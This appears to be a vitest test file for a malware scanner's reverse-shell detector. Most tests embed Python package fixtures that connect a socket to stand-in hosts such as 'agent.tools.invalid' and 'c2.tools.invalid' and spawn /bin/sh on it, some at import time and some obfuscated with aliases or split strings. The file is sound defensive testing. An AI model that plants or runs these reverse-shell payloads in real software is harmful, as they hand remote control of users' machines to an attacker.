import { expect, test } from 'vitest';
import { inspect, python, wheel } from '../../support/inspect.ts';

test('a shell on a connected socket at import is malware at the line of the shell', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import os, pty, socket',
      's = socket.socket()',
      "s.connect(('agent.tools.invalid', 4000))",
      'os.dup2(s.fileno(), 0)',
      'os.dup2(s.fileno(), 1)',
      'os.dup2(s.fileno(), 2)',
      "pty.spawn('/bin/sh')",
    ),
  });

  const findings = await inspect('reverse-shell', file);

  expect(findings).toMatchObject([
    {
      class: 'malware',
      score: 12,
      context: 'import',
      path: 'pkg/__init__.py',
      line: 7,
      hosts: ['agent.tools.invalid'],
    },
  ]);
  expect(findings[0]?.chain).toContainEqual(expect.objectContaining({ role: 'source', line: 3 }));
});

test('a terminal for a local program and a client of a socket are no reverse shell', async () => {
  const file = wheel({
    'pkg/terminal.py': python(
      'import os, pty',
      'def spawn(master, slave, command):',
      '    os.dup2(slave, 0)',
      '    os.dup2(slave, 1)',
      "    pty.spawn(['/bin/bash', '-c', command])",
    ),
    'pkg/client.py': python(
      'import socket',
      'def ask(host, question):',
      '    with socket.create_connection((host, 79)) as s:',
      '        s.sendall(question)',
      '        return s.recv(4096)',
    ),
  });

  expect(await inspect('reverse-shell', file)).toEqual([]);
});

test('a loop over the descriptors, aliases and pty are found', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'from os import dup2 as put',
      'import pty as terminal, socket as net',
      'link = net.socket(net.AF_INET, net.SOCK_STREAM)',
      "link.connect(('agent.' + 'tools.invalid', 4000))",
      'for stream in (0, 1, 2):',
      '    put(link.fileno(), stream)',
      "terminal.spawn('/bin/' + 'bash')",
    ),
  });

  expect(await inspect('reverse-shell', file)).toMatchObject([{ class: 'malware', path: 'pkg/__init__.py', line: 7 }]);
});

test('a shell started by subprocess on the streams of the socket is found without a terminal', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import os, socket, subprocess',
      's = socket.socket()',
      "s.connect(('agent.tools.invalid', 4000))",
      'for stream in (0, 1, 2):',
      '    os.dup2(s.fileno(), stream)',
      "subprocess.call(['/bin/sh', '-i'])",
    ),
  });

  expect(await inspect('reverse-shell', file)).toMatchObject([
    { class: 'malware', context: 'import', path: 'pkg/__init__.py', line: 6 },
  ]);
});

test('a shell whose streams are a connection is malware', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import socket, subprocess',
      "s = socket.create_connection(('c2.tools.invalid', 9001))",
      "subprocess.Popen(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())",
    ),
  });

  expect(await inspect('reverse-shell', file)).toMatchObject([{ class: 'malware', score: 12, line: 3 }]);
});

test('a server that pipes a compressor to its client stays silent', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import socket, subprocess',
      'def serve(path, port):',
      '    link, _ = socket.create_server(("", port)).accept()',
      "    subprocess.run(['gzip', '-c', path], stdout=link.fileno())",
    ),
  });

  expect(await inspect('reverse-shell', file)).toEqual([]);
});

test('a shell for a host that stands in the code is malware on command too; where the caller says whom, it is not', async () => {
  const shell = (host: string): string =>
    python(
      'import os, pty, socket, sys',
      's = socket.socket()',
      `s.connect((${host}, 4444))`,
      'for fd in (0, 1, 2):',
      '    os.dup2(s.fileno(), fd)',
      "pty.spawn('/bin/sh')",
    );

  const fixed = await inspect('reverse-shell', wheel({ 'pkg/__main__.py': shell("'198.51.100.90'") }));
  const chosen = await inspect('reverse-shell', wheel({ 'pkg/__main__.py': shell('sys.argv[1]') }));

  expect(fixed).toMatchObject([{ class: 'malware', score: 10, context: 'entry-point' }]);
  expect(chosen).toMatchObject([{ class: 'suspicious', score: 8 }]);
});

test('a daemon that joins its own streams is no shell on a socket', async () => {
  const joined = (from: string): string =>
    python(
      'import os, socket',
      'def serve(address):',
      '    s = socket.socket()',
      '    s.connect(address)',
      `    os.dup2(${from}, 1)`,
      `    os.dup2(${from}, 2)`,
    );

  expect(await inspect('reverse-shell', wheel({ 'pkg/__init__.py': joined('0') }))).toEqual([]);
  expect(await inspect('reverse-shell', wheel({ 'pkg/__init__.py': joined('s.fileno()') }))).not.toEqual([]);
});

test('streams led to a file that was opened are no shell for anybody, beside a client as well', async () => {
  const file = (from: string): ReturnType<typeof wheel> =>
    wheel({
      'pkg/__init__.py': python(
        'import os, socket',
        's = socket.create_connection(("agent.tools.invalid", 4000))',
        `fd = ${from}`,
        'os.dup2(fd, 1)',
        'os.dup2(fd, 2)',
      ),
    });

  expect(await inspect('reverse-shell', file('os.open(os.devnull, os.O_WRONLY)'))).toEqual([]);
  expect(await inspect('reverse-shell', file('s.fileno()'))).toMatchObject([{ class: 'malware' }]);
});

test('one end of a pair of sockets is this machine, on both sides', async () => {
  const file = (made: string): ReturnType<typeof wheel> =>
    wheel({
      'pkg/__init__.py': python(
        'import os, socket',
        'peer = socket.create_connection(("agent.tools.invalid", 4000))',
        `one, two = ${made}`,
        'os.dup2(one.fileno(), 0)',
        'os.dup2(one.fileno(), 1)',
      ),
    });

  expect(await inspect('reverse-shell', file('socket.socketpair()'))).toEqual([]);
  expect(await inspect('reverse-shell', file('peer, None'))).toMatchObject([{ class: 'malware' }]);
});
